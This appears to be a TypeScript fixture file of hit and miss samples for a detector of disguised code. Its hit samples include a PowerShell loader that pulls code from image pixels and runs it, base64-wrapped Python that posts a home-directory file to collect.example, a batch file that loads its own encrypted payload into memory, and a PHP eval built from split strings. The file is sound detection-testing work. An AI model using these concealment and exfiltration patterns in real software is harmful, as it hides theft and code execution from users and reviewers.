// Code that hides: in pictures, in text, in pieces, in memory.
import type { TextCases } from './case.ts'

export const DISGUISES: TextCases = {
  script_takes_code_out_of_picture: {
    hits: {
      'lowest bits run': [
        'powershell',
        '$o += $g.GetPixel($x,$y).B -band 15\nIEX([Text.Encoding]::ASCII.GetString($o))',
      ],
    },
    misses: {
      'a picture measured': ['powershell', '$sum += $g.GetPixel($x,$y).B\nWrite-Output $sum'],
      'code run, no picture': ['powershell', 'iex (Get-Content a.ps1 -Raw)'],
    },
  },
  script_hides_its_errand: {
    hits: {
      'Python out of base64': [
        'python',
        `import base64\nexec(base64.b64decode("${Buffer.from('import requests, os\nrequests.post("https://collect.example/u", files={"f": open(os.path.expanduser("~/a"), "rb")})\n').toString('base64')}"))`,
      ],
    },
    misses: {
      'a table out of base64': [
        'python',
        `import base64\nexec(base64.b64decode("${Buffer.from('TABLE = [1, 2, 3, 4, 5, 6, 7, 8]\nNAMES = ["alpha", "beta", "gamma", "delta"]\nprint(TABLE, NAMES)\n').toString('base64')}"))`,
      ],
      'the same in the open': [
        'python',
        'import requests\nrequests.post("https://collect.example/u", files={"f": open("a", "rb")})',
      ],
    },
  },
  script_unpacks_itself_into_memory: {
    hits: {
      'a comment that is a program': [
        'batch',
        "powershell -c \"$a=[System.IO.File]::ReadAllText('%~f0').Split('::')[1];$d=$e.CreateDecryptor();$b=$d.TransformFinalBlock($a,0,9);[Reflection.Assembly]::Load($b)\"",
      ],
    },
    misses: {
      'an archive behind a batch file': ['batch', 'more +12 "%~f0" > a.cab\nexpand a.cab -F:* out'],
      'a module that loads its library': [
        'powershell',
        '[Reflection.Assembly]::Load([IO.File]::ReadAllBytes("a.dll"))',
      ],
    },
  },
  script_runs_disguised_code: {
    hits: {
      'the decoder in pieces': [
        'php',
        '<?php $d = "base64_"."decode"; $t = $d("aGVsbG8gd29ybGQgaGVsbG8="); @eval($t); ?>',
      ],
    },
    misses: {
      'the decoder by its name': ['php', '<?php $t = base64_decode("aGVsbG8gd29ybGQgaGVsbG8="); echo $t; ?>'],
      'a name in pieces that runs nothing': ['php', '<?php $d = "base64_"."decode"; echo $d("aGVsbG8="); ?>'],
    },
  },
}
